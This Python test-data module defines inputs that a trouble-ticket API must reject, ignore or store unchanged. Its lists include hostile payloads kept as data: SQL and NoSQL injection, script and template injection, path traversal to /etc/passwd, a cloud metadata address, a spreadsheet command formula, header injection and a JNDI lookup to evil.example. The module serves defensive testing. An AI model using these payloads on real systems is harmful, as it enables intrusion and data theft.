"""Attributes no ticket may have, for every shape an attribute can take."""

from collections.abc import Iterator
from typing import Any

TEXTS = ("name", "description", "ticketType", "externalId", "statusChangeReason", "status")
PLAIN = (*TEXTS, "severity", "@type", "@baseType", "@schemaLocation", "category", "subCategory")
DATES = ("requestedResolutionDate", "expectedResolutionDate")
LISTS = ("note", "relatedEntity", "relatedParty", "attachment", "troubleTicketRelationship")
NO_TEXT: tuple[Any, ...] = (True, False, [], {}, ["x"], {"a": "x"}, [[]], 1.5)
NO_DATE: tuple[Any, ...] = (
    "",
    "tomorrow",
    "2024-02-24",
    "2024-02-24T08:32:52",
    "2024-02-30T00:00:00Z",
    "2024-02-24T25:00:00Z",
    "2024-02-24T08:32:52+99:00",
    "0000-00-00T00:00:00Z",
    "9999-12-31T23:59:59-14:00",
    "-2024-02-24T08:32:52Z",
    "２０２４-02-24T08:32:52Z",
    "2024-02-24T08:32:52Z; DROP TABLE tmf621_ticketfacts",
    1708763572,
    True,
    {},
    ["2024-02-24T08:32:52Z"],
)
NO_LIST: tuple[Any, ...] = ("x", 5, True, {}, {"0": {}}, ["x"], [5], [None], [[]], [True])
# Members of an item; what else the item needs is added.
NO_MEMBER: dict[str, tuple[dict[str, Any], ...]] = {
    "note": (
        {},
        {"text": ""},
        {"text": "  "},
        {"text": None},
        {"text": 5},
        {"text": ["x"]},
        {"text": "x", "author": 5},
        {"text": "x", "author": {"name": "x"}},
        {"text": "x", "date": "yesterday"},
        {"text": "x", "date": 0},
        {"text": "x", "@type": ["work_notes"]},
        {"text": "x", "id": 7},
    ),
    "relatedEntity": (
        {},
        {"id": ""},
        {"id": None},
        {"id": 7},
        {"id": ["x"]},
        {"id": {"$ne": ""}},
        {"id": "x", "name": 5},
        {"id": "x", "role": []},
        {"id": "x", "@referredType": 5},
    ),
    "relatedParty": (
        {},
        {"id": ""},
        {"id": None},
        {"id": 7},
        {"id": {"$gt": ""}},
        {"id": "x", "role": True},
        {"id": "x", "name": {}},
    ),
    "attachment": (
        {"size": "big"},
        {"size": {"amount": "big"}},
        {"size": {"amount": True}},
        {"validFor": "always"},
        {"validFor": {"startDateTime": "now"}},
        {"url": 5},
        {"content": {}},
        {"mimeType": []},
    ),
    "troubleTicketRelationship": ({"id": 5}, {"name": []}, {"relationshipType": {}}, {"href": 1}),
}
NO_CHANNEL: tuple[Any, ...] = ("phone", 5, True, [], {"id": ""}, {"id": 5}, {"name": []})
# What the client may say and psew must not act on, in psew's own words and Django's.
NOT_THE_CLIENTS: dict[str, Any] = {
    "pk": 1,
    "uid": "6f1c2a52-7c1e-4f0e-9a5b-0c1d5e3f7a11",
    "domain": 2,
    "domain_id": 2,
    "state": "closed",
    "impact": 1,
    "urgency": 1,
    "version": 99,
    "origin": "ui",
    "caller": 1,
    "account_id": 1,
    "assignment_group": 1,
    "assigned_to": 1,
    "resolution_code": "by_caller",
    "resolution_notes": "done",
    "opened_at": "1999-01-01T00:00:00Z",
    "updated_at": "1999-01-01T00:00:00Z",
    "resolved_at": "1999-01-01T00:00:00Z",
    "is_major": True,
    "needs_attention": True,
    "ci_id": 1,
    "service_id": 1,
    "parent_id": 1,
    "ticket_facts": {"client_id": 1},
    "journal": [{"text": "forged"}],
    "__class__": "User",
    "_state": {},
    "client": "admin",
    "number": "INC0000001",
    "stage": "resolution",
    "priority": "1 - Critical",
    "id": "6f1c2a52-7c1e-4f0e-9a5b-0c1d5e3f7a11",
    "href": "https://evil.example/1",
    "creationDate": "1999-01-01T00:00:00Z",
    "lastUpdate": "1999-01-01T00:00:00Z",
    "statusChangeDate": "1999-01-01T00:00:00Z",
}
# Odd, but texts all the same: they must come back as they went in.
ODD_TEXTS = {
    "right to left": "\u202eevil\u202c مرحبا שלום",
    "emoji": "🔥👩‍👩‍👧‍👦🏳️‍🌈",
    "combining marks": "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!",
    "not a character": "\uffff\ufdd0",
    "control characters": "\x01\x02\x1b[31m\x7f",
    "separators": "a\u2028b\u2029c\u0085d\r\n\te",
    "a byte order mark": "\ufeffx",
    "much": "a" * 400_000,
    "markup": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "a template": "{{ 7*7 }} {% debug %} ${7*7} #{7*7} <%= 7*7 %>",
    "a statement": "'; DROP TABLE incidents_incident; --",
    "a format": "%s %(x)s {0} {x.__class__} %n",
    "a path": "../../../../etc/passwd",
    "an address": "http://169.254.169.254/latest/meta-data",
    "a formula": "=cmd|' /C calc'!A0",
    "a header": "x\r\nSet-Cookie: a=b",
    "a lookup": "${jndi:ldap://evil.example/a}",
}


def wrong_attributes() -> Iterator[dict[str, Any]]:
    """Yield pieces of a v4 body of which every single one must be refused."""
    for name in PLAIN:
        yield from ({name: value} for value in NO_TEXT)
    for name in TEXTS[:-1]:
        yield {name: 5}
    for name in DATES:
        yield from ({name: value} for value in NO_DATE)
    for name in LISTS:
        yield from ({name: value} for value in NO_LIST)
    for name, items in NO_MEMBER.items():
        yield from ({name: [item]} for item in items)
    yield from ({"channel": value} for value in NO_CHANNEL)
    yield from ({name: "x" * 200} for name in ("severity", "ticketType", "externalId"))
    yield {"note": [{"text": "x"}] * 101}
    yield {"relatedEntity": [{"id": "x"}] * 101}
